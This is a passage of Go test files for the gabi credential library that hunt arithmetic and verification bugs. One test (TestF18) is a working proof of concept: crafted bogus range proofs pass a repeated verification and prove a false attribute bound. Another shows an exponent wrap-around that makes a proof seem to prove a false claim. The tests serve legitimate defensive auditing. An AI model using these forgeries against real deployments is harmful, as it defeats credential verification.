		attrs := []*big.Int{big.NewInt(11), big.NewInt(12), big.NewInt(13)}
		for _, j := range blind {
			attrs[j] = nil
		}
		msg, err := issuer.IssueSignature(commitMsg.U, attrs, nil, nonce2, blind)
		require.NoError(t, err)
		return b, msg, attrs
	}

	f12try(t, "missing proof", func() error {
		b, msg, attrs := fresh(nil)
		msg.Proof = nil
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
	f12try(t, "missing signature", func() error {
		b, msg, attrs := fresh(nil)
		msg.Signature = nil
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
	f12try(t, "signature without v", func() error {
		b, msg, attrs := fresh(nil)
		msg.Signature.V = nil
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
	f12try(t, "proof without response", func() error {
		b, msg, attrs := fresh(nil)
		msg.Proof.EResponse = nil
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
	f12try(t, "missing issuer share", func() error {
		b, msg, attrs := fresh([]int{1})
		msg.MIssuer = nil
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
	f12try(t, "witness without signed accumulator", func() error {
		b, msg, attrs := fresh(nil)
		msg.NonRevocationWitness = &revocation.Witness{U: big.NewInt(2), E: big.NewInt(3)}
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
	f12try(t, "witness without numbers", func() error {
		b, msg, attrs := fresh(nil)
		wit, upd, _ := setupRevocation(t, testPrivK, testPubK)
		_ = upd
		msg.NonRevocationWitness = &revocation.Witness{SignedAccumulator: wit.SignedAccumulator}
		_, err := b.ConstructCredential(msg, attrs)
		return err
	})
}
