package rangeproof

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
)

func TestF5a(t *testing.T) {
	s, err := newWithParams(1, 1, 1<<63+1, big.NewInt(5), nil, 4, 128)
	if err == nil && s.mCorrect.Rhs[1].Power != 0 && s.mCorrect.Rhs[1].Power > 0 {
		t.Errorf("exponent of R_m for a=2^63+1, sign=1 is %d, expected the negative number -(2^63+1) (not representable): wrap-around", s.mCorrect.Rhs[1].Power)
	}
}

func TestF5b(t *testing.T) {
	b := big.NewInt(10)
	p := &Proof{Cs: []*big.Int{big.NewInt(1), big.NewInt(1), big.NewInt(1)}, Sign: 1, A: 4, K: big.NewInt(38)}
	// p establishes 4m >= 38, i.e. m >= 10 (three squares). It does not establish (2^62+1)*m >= 10 in general? it does for m>=10;
	// take sign -1: p2 establishes 4m <= 38 i.e. m <= 9 ; claim (2^62+1)*m <= 10 is false for m = 5
	p2 := &Proof{Cs: p.Cs, Sign: -1, A: 4, K: big.NewInt(38)}
	if p2.ProvesStatement(-1, 1<<62+1, b) {
		t.Errorf("proof of 4m <= 38 reported as proving (2^62+1)*m <= 10 (false for m = 5): factor*4 wrapped around")
	}
	_ = p
}
