package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
	"github.com/stretchr/testify/require"
)

// F18: reconstructRangeProofStructures stores its (partial) result in the proof before it has succeeded. After a
// verification that failed in there, a second verification of the same object finds the cache, skips the
// reconstruction and with it every range proof that has no structure yet: those are never checked and do not
// enter the challenge, so a disclosure carrying an unverified "range proof" of a false statement is accepted.
func TestF18(t *testing.T) {
	context, err := common.RandomBigInt(testPubK1.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK1.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK1.Params.Lm)
	require.NoError(t, err)
	issuer := NewIssuer(testPrivK1, testPubK1, context)
	cred := createCredential(t, context, secret, issuer)

	// honest disclosure proof without range proofs
	proof, err := cred.CreateDisclosureProof([]int{2}, nil, false, context, nonce)
	require.NoError(t, err)

	// attach two bogus range proofs at hidden attribute 1: the first has an invalid descriptor (makes the first
	// verification fail), the second claims attr >= attr + 1000000 and consists of arbitrary numbers
	falseBound := new(big.Int).Add(testAttributes1[1], big.NewInt(1000000))
	one := func() *big.Int { return big.NewInt(1) }
	bogus := func() *rangeproof.Proof {
		return &rangeproof.Proof{
			Cs:         []*big.Int{one(), one(), one(), one()},
			DResponses: []*big.Int{one(), one(), one(), one()},
			VResponses: []*big.Int{one(), one(), one(), one()},
			V5Response: one(), Ld: 8, Sign: 1, A: 1, K: falseBound,
		}
	}
	bad := bogus()
	bad.Ld = 100000 // > Lm: ExtractStructure fails
	proof.RangeProofs = map[int][]*rangeproof.Proof{1: {bad, bogus()}}

	require.False(t, proof.Verify(testPubK1, context, nonce, false), "first verification fails on the invalid descriptor")
	stmt := &rangeproof.Statement{Sign: 1, Factor: 1, Bound: falseBound}
	if proof.Verify(testPubK1, context, nonce, false) && proof.RangeProofs[1][1].Proves(stmt) {
		t.Errorf("second verification of the same proof object accepts it although its range proofs were never checked (claims attr >= attr + 1000000)")
	}
}
