package common

import (
	"fmt"
	gobig "math/big"
	mathrand "math/rand"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
)

// runWithTimeout runs f and reports whether it finished, and a recovered panic value (if any).
func runWithTimeout(d time.Duration, f func()) (finished bool, panicked any) {
	done := make(chan any, 1)
	go func() {
		defer func() { done <- recover() }()
		f()
	}()
	select {
	case p := <-done:
		return true, p
	case <-time.After(d):
		return false, nil
	}
}

func bi(x int64) *big.Int { return big.NewInt(x) }

// ---------- FastMod ----------

func TestHuntFastModAgainstMod(t *testing.T) {
	rnd := mathrand.New(mathrand.NewSource(42))
	var ps []*big.Int
	// p = 2^b - c for a range of b and c, including tiny p
	for _, b := range []uint{1, 2, 3, 4, 5, 8, 16, 59, 60, 61, 63, 64, 65, 127, 128, 255, 256, 257, 521, 1024} {
		for _, c := range []int64{1, 2, 3, 5, 19, 189, 1 << 20, (1 << 59) - 1, 1 << 59, (1 << 60) - 1} {
			p := new(big.Int).Lsh(bi(1), b)
			p.Sub(p, bi(c))
			if p.Sign() <= 0 {
				continue
			}
			ps = append(ps, p)
		}
	}
	for _, p := range ps {
		var m FastMod
		m.Set(p)
		twob := new(big.Int).Lsh(bi(1), uint(p.BitLen()))
		xs := []*big.Int{
			bi(0), bi(1), bi(-1), new(big.Int).Set(p), new(big.Int).Sub(p, bi(1)), new(big.Int).Add(p, bi(1)),
			new(big.Int).Lsh(p, 1), new(big.Int).Sub(new(big.Int).Lsh(p, 1), bi(1)), new(big.Int).Add(new(big.Int).Lsh(p, 1), bi(1)),
			twob, new(big.Int).Sub(twob, bi(1)), new(big.Int).Add(twob, bi(1)),
			new(big.Int).Mul(p, p), new(big.Int).Sub(new(big.Int).Mul(p, p), bi(1)),
			new(big.Int).Mul(twob, twob), new(big.Int).Sub(new(big.Int).Mul(twob, twob), bi(1)),
			new(big.Int).Neg(p), new(big.Int).Neg(new(big.Int).Lsh(p, 1)), new(big.Int).Neg(twob),
		}
		for range 50 {
			x := new(big.Int).Rand(rnd, new(big.Int).Lsh(bi(1), uint(3*p.BitLen()+7)))
			xs = append(xs, x, new(big.Int).Neg(x))
		}
		for _, x := range xs {
			want := new(big.Int).Mod(x, p)
			xc := new(big.Int).Set(x)
			var got *big.Int
			fin, pan := runWithTimeout(5*time.Second, func() { got = m.Mod(new(big.Int), xc) })
			if !fin {
				t.Fatalf("FastMod hang p=%v x=%v", p, x)
			}
			if pan != nil {
				t.Fatalf("FastMod panic p=%v x=%v: %v", p, x, pan)
			}
			if got.Cmp(want) != 0 {
				t.Errorf("FastMod p=%v x=%v got %v want %v", p, x, got, want)
			}
			if xc.Cmp(x) != 0 {
				t.Errorf("FastMod modified its argument p=%v x=%v", p, x)
			}
			// aliased
			xa := new(big.Int).Set(x)
			got2 := m.Mod(xa, xa)
			if got2.Cmp(want) != 0 {
				t.Errorf("FastMod (aliased) p=%v x=%v got %v want %v", p, x, got2, want)
			}
		}
	}
}

func TestHuntFastModZeroValue(t *testing.T) {
	var m FastMod // Set never called
	fin, pan := runWithTimeout(3*time.Second, func() { m.Mod(new(big.Int), bi(5)) })
	if !fin {
		t.Errorf("FastMod zero value: Mod hangs")
	}
	if pan != nil {
		t.Errorf("FastMod zero value: Mod panics: %v", pan)
	}
}

func TestHuntFastModSetZero(t *testing.T) {
	var m FastMod
	m.Set(bi(0))
	fin, pan := runWithTimeout(3*time.Second, func() { m.Mod(new(big.Int), bi(5)) })
	if !fin {
		t.Errorf("FastMod.Set(0): Mod(5) hangs instead of panicking with division by zero like big.Int.Mod")
	}
	t.Logf("panic: %v", pan)
}

func TestHuntFastModNegativeP(t *testing.T) {
	var m FastMod
	p := bi(-7)
	m.Set(p)
	for _, x := range []int64{0, 1, 6, 7, 8, 15, 100, -1, -8} {
		want := new(big.Int).Mod(bi(x), p)
		var got *big.Int
		fin, pan := runWithTimeout(3*time.Second, func() { got = m.Mod(new(big.Int), bi(x)) })
		if !fin {
			t.Errorf("hang p=-7 x=%d", x)
			continue
		}
		if pan != nil {
			t.Errorf("panic p=-7 x=%d: %v", x, pan)
			continue
		}
		if got.Cmp(want) != 0 {
			t.Errorf("p=-7 x=%d got %v want %v", x, got, want)
		}
	}
}

// ---------- LegendreSymbol ----------

func TestHuntLegendreVsJacobiOdd(t *testing.T) {
	// odd moduli (primes and composites): must equal Jacobi
	for p := int64(1); p < 400; p += 2 {
		for a := int64(-2 * p); a <= 2*p; a++ {
			want := gobig.Jacobi(gobig.NewInt(a), gobig.NewInt(p))
			var got int
			fin, pan := runWithTimeout(3*time.Second, func() { got = LegendreSymbol(bi(a), bi(p)) })
			if !fin {
				t.Fatalf("hang a=%d p=%d", a, p)
			}
			if pan != nil {
				t.Fatalf("panic a=%d p=%d: %v", a, p, pan)
			}
			if got != want {
				t.Errorf("LegendreSymbol(%d,%d)=%d, Jacobi=%d", a, p, got, want)
			}
		}
	}
}

func TestHuntLegendreLarge(t *testing.T) {
	rnd := mathrand.New(mathrand.NewSource(7))
	for range 300 {
		p := new(big.Int).Rand(rnd, new(big.Int).Lsh(bi(1), 300))
		p.SetBit(p, 0, 1)
		a := new(big.Int).Rand(rnd, new(big.Int).Lsh(bi(1), 400))
		if rnd.Intn(2) == 0 {
			a.Neg(a)
		}
		ac, pc := new(big.Int).Set(a), new(big.Int).Set(p)
		got := LegendreSymbol(a, p)
		want := big.Jacobi(a, p)
		if got != want {
			t.Errorf("LegendreSymbol(%v,%v)=%d want %d", a, p, got, want)
		}
		if ac.Cmp(a) != 0 || pc.Cmp(p) != 0 {
			t.Errorf("arguments modified")
		}
	}
}

func TestHuntLegendreEvenAndTwo(t *testing.T) {
	// p = 2 is a prime: (a/2) is 0 for even a and 1 for odd a.
	for a := int64(0); a < 8; a++ {
		want := int(a & 1)
		var got int
		fin, pan := runWithTimeout(3*time.Second, func() { got = LegendreSymbol(bi(a), bi(2)) })
		if !fin {
			t.Errorf("hang a=%d p=2", a)
			continue
		}
		if pan != nil {
			t.Errorf("panic a=%d p=2: %v", a, pan)
			continue
		}
		if got != want {
			t.Errorf("LegendreSymbol(%d,2)=%d want %d", a, got, want)
		}
	}
}

func TestHuntLegendreZeroModulus(t *testing.T) {
	fin, pan := runWithTimeout(3*time.Second, func() { LegendreSymbol(bi(3), bi(0)) })
	t.Logf("p=0: finished=%v panic=%v", fin, pan)
	if !fin {
		t.Errorf("hang for p=0")
	}
}

// ---------- ModInverse / ModPow ----------

func TestHuntModInverse(t *testing.T) {
	for n := int64(1); n < 60; n++ {
		for a := int64(-2 * n); a <= 3*n; a++ {
			var ia *big.Int
			var ok bool
			fin, pan := runWithTimeout(3*time.Second, func() { ia, ok = ModInverse(bi(a), bi(n)) })
			if !fin || pan != nil {
				t.Errorf("ModInverse(%d,%d) fin=%v panic=%v", a, n, fin, pan)
				continue
			}
			g := new(gobig.Int).GCD(nil, nil, gobig.NewInt(abs64(a)), gobig.NewInt(n))
			wantOK := g.Cmp(gobig.NewInt(1)) == 0
			if ok != wantOK {
				t.Errorf("ModInverse(%d,%d) ok=%v want %v", a, n, ok, wantOK)
				continue
			}
			if !ok {
				if ia != nil {
					t.Errorf("ModInverse(%d,%d) not ok but value %v", a, n, ia)
				}
				continue
			}
			if ia.Sign() < 0 || ia.Cmp(bi(n)) >= 0 {
				t.Errorf("ModInverse(%d,%d)=%v is outside [0,n)", a, n, ia)
			}
			prod := new(big.Int).Mul(ia, bi(a))
			prod.Mod(prod, bi(n))
			if prod.Cmp(new(big.Int).Mod(bi(1), bi(n))) != 0 {
				t.Errorf("ModInverse(%d,%d)=%v: product is %v", a, n, ia, prod)
			}
		}
	}
}

func abs64(a int64) int64 {
	if a < 0 {
		return -a
	}
	return a
}

func TestHuntModPow(t *testing.T) {
	for m := int64(1); m < 40; m++ {
		for x := int64(-m); x <= 2*m; x++ {
			for y := int64(-5); y <= 5; y++ {
				var r *big.Int
				var err error
				fin, pan := runWithTimeout(3*time.Second, func() { r, err = ModPow(bi(x), bi(y), bi(m)) })
				if !fin || pan != nil {
					t.Errorf("ModPow(%d,%d,%d) fin=%v panic=%v", x, y, m, fin, pan)
					continue
				}
				// reference
				var want *gobig.Int
				if y >= 0 {
					want = new(gobig.Int).Exp(gobig.NewInt(x), gobig.NewInt(y), gobig.NewInt(m))
					want.Mod(want, gobig.NewInt(m))
				} else {
					inv := new(gobig.Int).ModInverse(gobig.NewInt(x), gobig.NewInt(m))
					if inv != nil {
						want = new(gobig.Int).Exp(inv, gobig.NewInt(-y), gobig.NewInt(m))
					}
				}
				if want == nil {
					if err == nil {
						t.Errorf("ModPow(%d,%d,%d)=%v, expected error", x, y, m, r)
					}
					continue
				}
				if err != nil {
					t.Errorf("ModPow(%d,%d,%d) error %v, want %v", x, y, m, err, want)
					continue
				}
				if r.Go().Cmp(want) != 0 {
					t.Errorf("ModPow(%d,%d,%d)=%v want %v", x, y, m, r, want)
				}
			}
		}
	}
}

func TestHuntModPowZeroModulus(t *testing.T) {
	for _, c := range [][3]int64{{2, 3, 0}, {2, -1, 0}, {-2, -1, 0}, {1, -1, 0}} {
		var r *big.Int
		var err error
		fin, pan := runWithTimeout(3*time.Second, func() { r, err = ModPow(bi(c[0]), bi(c[1]), bi(c[2])) })
		t.Logf("ModPow(%d,%d,%d): fin=%v panic=%v r=%v err=%v", c[0], c[1], c[2], fin, pan, r, err)
		if pan != nil {
			t.Errorf("ModPow(%d,%d,%d) panics: %v", c[0], c[1], c[2], pan)
		}
	}
	// nil modulus: big.Int.Exp documents m == nil as "no modulus"
	fin, pan := runWithTimeout(3*time.Second, func() { ModPow(bi(2), bi(-1), nil) })
	t.Logf("ModPow(2,-1,nil): fin=%v panic=%v", fin, pan)
	if pan != nil {
		t.Errorf("ModPow(2,-1,nil) panics: %v", pan)
	}
}

// ---------- Crt ----------

func TestHuntCrt(t *testing.T) {
	for pa := int64(-12); pa <= 12; pa++ {
		for pb := int64(-12); pb <= 12; pb++ {
			g := new(gobig.Int).GCD(nil, nil, gobig.NewInt(abs64(pa)), gobig.NewInt(abs64(pb)))
			coprime := g.Cmp(gobig.NewInt(1)) == 0
			for a := int64(-3); a <= 13; a++ {
				for b := int64(-3); b <= 13; b++ {
					var r *big.Int
					fin, pan := runWithTimeout(3*time.Second, func() { r = Crt(bi(a), bi(pa), bi(b), bi(pb)) })
					if !fin {
						t.Fatalf("Crt hang %d %d %d %d", a, pa, b, pb)
					}
					if !coprime {
						if pan == nil {
							t.Errorf("Crt(%d,%d,%d,%d)=%v for non-coprime moduli, expected panic", a, pa, b, pb, r)
						}
						continue
					}
					if pan != nil {
						if pa != 0 && pb != 0 {
							t.Errorf("Crt(%d,%d,%d,%d) panics: %v", a, pa, b, pb, pan)
						}
						continue
					}
					if pa == 0 || pb == 0 {
						continue
					}
					apa, apb := bi(abs64(pa)), bi(abs64(pb))
					if r.Sign() < 0 || r.Cmp(bi(abs64(pa*pb))) >= 0 {
						t.Errorf("Crt(%d,%d,%d,%d)=%v outside [0,|pa*pb|)", a, pa, b, pb, r)
					}
					if new(big.Int).Mod(r, apa).Cmp(new(big.Int).Mod(bi(a), apa)) != 0 ||
						new(big.Int).Mod(r, apb).Cmp(new(big.Int).Mod(bi(b), apb)) != 0 {
						t.Errorf("Crt(%d,%d,%d,%d)=%v wrong", a, pa, b, pb, r)
					}
				}
			}
		}
	}
}

func smallPrimes(max int64) []int64 {
	var ps []int64
	for p := int64(2); p < max; p++ {
		if gobig.NewInt(p).ProbablyPrime(10) {
			ps = append(ps, p)
		}
	}
	return ps
}

func TestHuntPrimeSqrt(t *testing.T) {
	for _, p := range smallPrimes(600) {
		if p == 2 {
			continue // known
		}
		squares := map[int64]bool{}
		for r := int64(0); r < p; r++ {
			squares[r*r%p] = true
		}
		for a := int64(-p); a < 2*p; a++ {
			am := ((a % p) + p) % p
			if am == 0 && a != 0 {
				continue // see TestHuntPrimeSqrtMultipleOfP
			}
			var r *big.Int
			var ok bool
			fin, pan := runWithTimeout(3*time.Second, func() { r, ok = PrimeSqrt(bi(a), bi(p)) })
			if !fin {
				t.Errorf("PrimeSqrt(%d,%d) hangs", a, p)
				continue
			}
			if pan != nil {
				t.Errorf("PrimeSqrt(%d,%d) panics: %v", a, p, pan)
				continue
			}
			if ok != squares[am] {
				t.Errorf("PrimeSqrt(%d,%d) ok=%v, want %v", a, p, ok, squares[am])
				continue
			}
			if ok {
				sq := new(big.Int).Mul(r, r)
				sq.Mod(sq, bi(p))
				if sq.Cmp(bi(am)) != 0 || r.Sign() < 0 || r.Cmp(bi(p)) >= 0 {
					t.Errorf("PrimeSqrt(%d,%d)=%v wrong (r^2 mod p = %v)", a, p, r, sq)
				}
			}
		}
	}
}

func TestHuntPrimeSqrtLarge1Mod8(t *testing.T) {
	// primes with a large power of two in p-1
	for _, ps := range []string{
		"18446744069414584321", // 2^64 - 2^32 + 1
		"115792089237316195423570985008687907853269984665640564039457584007908834671663", // secp256k1 p (3 mod 4)
		"57896044618658097711785492504343953926634992332820282019728792003956564819949",  // 2^255-19 (5 mod 8)
		"52435875175126190479447740508185965837690552500527637822603658699938581184513",  // BLS12-381 r: 2^32 | r-1
	} {
		p, _ := new(big.Int).SetString(ps, 10)
		rnd := mathrand.New(mathrand.NewSource(3))
		for range 20 {
			x := new(big.Int).Rand(rnd, p)
			a := new(big.Int).Mul(x, x)
			a.Mod(a, p)
			var r *big.Int
			var ok bool
			fin, pan := runWithTimeout(10*time.Second, func() { r, ok = PrimeSqrt(a, p) })
			if !fin || pan != nil {
				t.Errorf("PrimeSqrt large fin=%v pan=%v", fin, pan)
				continue
			}
			if !ok {
				t.Errorf("PrimeSqrt(%v,%v) not ok for a square", a, p)
				continue
			}
			sq := new(big.Int).Mul(r, r)
			sq.Mod(sq, p)
			if sq.Cmp(a) != 0 {
				t.Errorf("PrimeSqrt(%v,%v)=%v wrong", a, p, r)
			}
		}
	}
}

func TestHuntPrimeSqrtMultipleOfP(t *testing.T) {
	// a = p, 2p: a mod p = 0 which is a square with root 0
	for _, p := range []int64{3, 5, 7, 13, 17} {
		for _, k := range []int64{1, 2, -1} {
			var r *big.Int
			var ok bool
			fin, pan := runWithTimeout(3*time.Second, func() { r, ok = PrimeSqrt(bi(k*p), bi(p)) })
			if !fin || pan != nil {
				t.Errorf("PrimeSqrt(%d,%d) fin=%v pan=%v", k*p, p, fin, pan)
				continue
			}
			if !ok || r.Sign() != 0 {
				t.Errorf("PrimeSqrt(%d,%d) = %v,%v; want 0,true", k*p, p, r, ok)
			}
		}
	}
}

func TestHuntModSqrt(t *testing.T) {
	type tc struct{ factors []int64 }
	cases := []tc{{[]int64{3, 5}}, {[]int64{7, 11}}, {[]int64{4, 3}}, {[]int64{3, 4}}, {[]int64{4, 7, 11}}, {[]int64{13, 17}}, {[]int64{4}}, {[]int64{5}}, {[]int64{4, 5, 13}}, {[]int64{17, 4, 41}}}
	for _, c := range cases {
		n := int64(1)
		var fs []*big.Int
		for _, f := range c.factors {
			n *= f
			fs = append(fs, bi(f))
		}
		squares := map[int64]bool{}
		for r := int64(0); r < n; r++ {
			squares[r*r%n] = true
		}
		for a := int64(-n); a < 2*n; a++ {
			am := ((a % n) + n) % n
			var r *big.Int
			var ok bool
			fin, pan := runWithTimeout(3*time.Second, func() { r, ok = ModSqrt(bi(a), fs) })
			if !fin {
				t.Errorf("ModSqrt(%d,%v) hangs", a, c.factors)
				continue
			}
			if pan != nil {
				t.Errorf("ModSqrt(%d,%v) panics: %v", a, c.factors, pan)
				continue
			}
			if ok != squares[am] {
				t.Errorf("ModSqrt(%d,%v) ok=%v (r=%v), want %v", a, c.factors, ok, r, squares[am])
				continue
			}
			if ok {
				sq := new(big.Int).Mul(r, r)
				sq.Mod(sq, bi(n))
				if sq.Cmp(bi(am)) != 0 {
					t.Errorf("ModSqrt(%d,%v)=%v wrong (r^2 mod n = %v)", a, c.factors, r, sq)
				}
				if r.Sign() < 0 || r.Cmp(bi(n)) >= 0 {
					t.Errorf("ModSqrt(%d,%v)=%v outside [0,n)", a, c.factors, r)
				}
			}
		}
	}
}

func TestHuntModSqrtEmptyAndNil(t *testing.T) {
	var r *big.Int
	var ok bool
	fin, pan := runWithTimeout(3*time.Second, func() { r, ok = ModSqrt(bi(5), nil) })
	t.Logf("ModSqrt(5, nil) = %v %v fin=%v pan=%v", r, ok, fin, pan)
}

// ---------- SumFourSquares ----------

func checkFourSquares(t *testing.T, n *big.Int) {
	t.Helper()
	nc := new(big.Int).Set(n)
	var a, b, c, d *big.Int
	fin, pan := runWithTimeout(20*time.Second, func() { a, b, c, d = SumFourSquares(n) })
	if !fin {
		t.Errorf("SumFourSquares(%v) hangs", nc)
		return
	}
	if pan != nil {
		t.Errorf("SumFourSquares(%v) panics: %v", nc, pan)
		return
	}
	if n.Cmp(nc) != 0 {
		t.Errorf("SumFourSquares(%v) modified its argument to %v", nc, n)
	}
	s := new(big.Int)
	for _, v := range []*big.Int{a, b, c, d} {
		if v.Sign() < 0 {
			t.Errorf("SumFourSquares(%v): negative component %v", nc, v)
		}
		s.Add(s, new(big.Int).Mul(v, v))
	}
	if s.Cmp(nc) != 0 {
		t.Errorf("SumFourSquares(%v) = %v %v %v %v (sum %v)", nc, a, b, c, d, s)
	}
}

func TestHuntSumFourSquaresSmall(t *testing.T) {
	for n := int64(0); n <= 5000; n++ {
		checkFourSquares(t, bi(n))
		if t.Failed() {
			return
		}
	}
}

func TestHuntSumFourSquaresLarge(t *testing.T) {
	rnd := mathrand.New(mathrand.NewSource(11))
	for _, bits := range []uint{32, 62, 63, 64, 65, 100, 128, 256, 300} {
		for range 10 {
			n := new(big.Int).Rand(rnd, new(big.Int).Lsh(bi(1), bits))
			checkFourSquares(t, n)
		}
		// powers of two and near
		p2 := new(big.Int).Lsh(bi(1), bits)
		checkFourSquares(t, p2)
		checkFourSquares(t, new(big.Int).Sub(p2, bi(1)))
		checkFourSquares(t, new(big.Int).Add(p2, bi(1)))
		checkFourSquares(t, new(big.Int).Lsh(bi(7), bits))
		checkFourSquares(t, new(big.Int).Lsh(bi(6), bits))
	}
}

func TestHuntSumFourSquaresNegative(t *testing.T) {
	for _, n := range []int64{-1, -2, -3, -4, -6, -8} {
		var a, b, c, d *big.Int
		fin, pan := runWithTimeout(3*time.Second, func() { a, b, c, d = SumFourSquares(bi(n)) })
		if !fin {
			t.Errorf("SumFourSquares(%d) hangs", n)
			continue
		}
		if pan != nil {
			t.Logf("SumFourSquares(%d) panics: %v", n, pan)
			continue
		}
		t.Errorf("SumFourSquares(%d) returns %v %v %v %v without error", n, a, b, c, d)
	}
}

// ---------- RepresentToBases ----------

func TestHuntRepresentToBasesNegativeOversized(t *testing.T) {
	mod := bi(1000003)
	bases := []*big.Int{bi(5)}
	big1 := new(big.Int).Lsh(bi(1), 300)
	big1.Add(big1, bi(12345))
	pos := RepresentToBases(bases, []*big.Int{big1}, mod, 256)
	neg := RepresentToBases(bases, []*big.Int{new(big.Int).Neg(big1)}, mod, 256)
	if pos.Cmp(neg) == 0 {
		t.Errorf("RepresentToBases gives the same value %v for exponent x and -x when |x| exceeds maxMessageLength (sign lost by hashing exp.Bytes())", pos)
	}
}

func TestHuntRepresentToBasesNegativeSmall(t *testing.T) {
	mod := bi(1000003)
	bases := []*big.Int{bi(5)}
	got := RepresentToBases(bases, []*big.Int{bi(-3)}, mod, 256)
	inv := new(big.Int).ModInverse(bi(125), mod)
	if got.Cmp(inv) != 0 {
		t.Errorf("RepresentToBases 5^-3 = %v want %v", got, inv)
	}
}

func TestHuntRepresentToBasesNegativeNonInvertible(t *testing.T) {
	// base not invertible: tmp.Exp returns nil and leaves tmp unchanged -> the previous factor is silently reused
	mod := bi(35)
	bases := []*big.Int{bi(2), bi(5)}
	var got *big.Int
	fin, pan := runWithTimeout(3*time.Second, func() { got = RepresentToBases(bases, []*big.Int{bi(3), bi(-1)}, mod, 256) })
	if !fin || pan != nil {
		t.Logf("fin=%v pan=%v", fin, pan)
		return
	}
	// 5^-1 mod 35 does not exist; any value is wrong. got = 8*8 = 64 mod 35 = 29 shows reuse of tmp.
	t.Errorf("RepresentToBases with 5^-1 mod 35 (undefined) silently returned %v (2^3 * stale tmp 2^3 = 64 mod 35 = 29)", got)
}

func TestHuntRepresentToBasesZeroMaxLen(t *testing.T) {
	mod := bi(1000003)
	bases := []*big.Int{bi(5), bi(7)}
	fin, pan := runWithTimeout(3*time.Second, func() {
		r := RepresentToBases(bases, []*big.Int{bi(0), bi(1)}, mod, 0)
		// exponent 1 has bitlen 1 > 0 so it is hashed; 0 is not
		h := IntHashSha256(bi(1).Bytes())
		want := new(big.Int).Exp(bi(7), h, mod)
		if r.Cmp(want) != 0 {
			t.Errorf("maxMessageLength 0: got %v want %v", r, want)
		}
	})
	if !fin || pan != nil {
		t.Errorf("fin=%v pan=%v", fin, pan)
	}
}

func TestHuntRepresentToBasesNilAndLengths(t *testing.T) {
	mod := bi(1000003)
	for name, f := range map[string]func(){
		"nil exponent element": func() { RepresentToBases([]*big.Int{bi(5)}, []*big.Int{nil}, mod, 256) },
		"more exps than bases": func() { RepresentToBases([]*big.Int{bi(5)}, []*big.Int{bi(1), bi(2)}, mod, 256) },
		"nil base element":     func() { RepresentToBases([]*big.Int{nil}, []*big.Int{bi(1)}, mod, 256) },
		"nil modulus":          func() { RepresentToBases([]*big.Int{bi(5)}, []*big.Int{bi(1)}, nil, 256) },
		"zero modulus":         func() { RepresentToBases([]*big.Int{bi(5)}, []*big.Int{bi(1)}, bi(0), 256) },
	} {
		fin, pan := runWithTimeout(3*time.Second, f)
		if !fin {
			t.Errorf("%s: hang", name)
		} else if pan != nil {
			t.Errorf("%s: panic: %v", name, pan)
		}
	}
}

func TestHuntRepresentToBasesHugeMaxLen(t *testing.T) {
	// maxMessageLength above MaxInt32/MaxInt: int(maxMessageLength) conversion
	mod := bi(1000003)
	big1 := new(big.Int).Lsh(bi(1), 300)
	r1 := RepresentToBases([]*big.Int{bi(5)}, []*big.Int{big1}, mod, ^uint(0))
	want := new(big.Int).Exp(bi(5), big1, mod)
	if r1.Cmp(want) != 0 {
		t.Errorf("maxMessageLength=MaxUint: exponent of 301 bits was hashed although it does not exceed the maximum (int(maxMessageLength) = -1)")
	}
}

// ---------- hashing ----------

func TestHuntIntHashSha256(t *testing.T) {
	// leading zero bytes / empty
	a := IntHashSha256(nil)
	b := IntHashSha256([]byte{})
	if a.Cmp(b) != 0 {
		t.Errorf("nil vs empty differ")
	}
	if a.Sign() < 0 {
		t.Errorf("negative")
	}
}

func TestHuntGetHashNumberBitlen(t *testing.T) {
	for _, bl := range []uint{0, 1, 255, 256, 257, 512, 513} {
		var r *big.Int
		fin, pan := runWithTimeout(3*time.Second, func() { r = GetHashNumber(bi(1), bi(2), 0, bl) })
		if !fin || pan != nil {
			t.Errorf("GetHashNumber bitlen %d fin=%v pan=%v", bl, fin, pan)
			continue
		}
		t.Logf("bitlen %d -> %d bits", bl, r.BitLen())
	}
}

func TestHuntHashCommitNegativeValues(t *testing.T) {
	// -1 and 255? asn1 encodes signed so they should differ
	a := HashCommit([]*big.Int{bi(-1)}, false)
	b := HashCommit([]*big.Int{bi(255)}, false)
	if a.Cmp(b) == 0 {
		t.Errorf("collision -1 / 255")
	}
	// issig=true with n values versus issig=false with (1/true?) cannot collide because of the type tag
	c := HashCommit([]*big.Int{}, true)
	d := HashCommit([]*big.Int{}, false)
	if c.Cmp(d) == 0 {
		t.Errorf("collision issig")
	}
}

// ---------- RandomPrimeInRange ----------

type zeroReader struct{}

func (zeroReader) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 0
	}
	return len(b), nil
}

type seqReader struct{ r *mathrand.Rand }

func (s seqReader) Read(b []byte) (int, error) { return s.r.Read(b) }

func TestHuntRandomPrimeInRangeBounds(t *testing.T) {
	rd := seqReader{mathrand.New(mathrand.NewSource(5))}
	for _, c := range [][2]uint{{2, 1}, {2, 2}, {3, 2}, {3, 3}, {4, 3}, {5, 3}, {6, 5}, {2, 6}, {3, 6}, {6, 8}, {7, 3}, {7, 7}, {8, 8}, {10, 9}, {16, 8}, {16, 16}, {3, 10}, {2, 16}, {20, 5}, {119, 9}} {
		start, length := c[0], c[1]
		lo := new(big.Int).Lsh(bi(1), start)
		hi := new(big.Int).Add(lo, new(big.Int).Lsh(bi(1), length))
		seen := map[string]bool{}
		for range 3000 {
			var p *big.Int
			var err error
			fin, pan := runWithTimeout(5*time.Second, func() { p, err = RandomPrimeInRange(rd, start, length) })
			if !fin {
				t.Errorf("RandomPrimeInRange(%d,%d) hangs", start, length)
				break
			}
			if pan != nil {
				t.Errorf("RandomPrimeInRange(%d,%d) panics: %v", start, length, pan)
				break
			}
			if err != nil {
				t.Errorf("RandomPrimeInRange(%d,%d) error %v", start, length, err)
				break
			}
			if p.Cmp(lo) < 0 || p.Cmp(hi) > 0 {
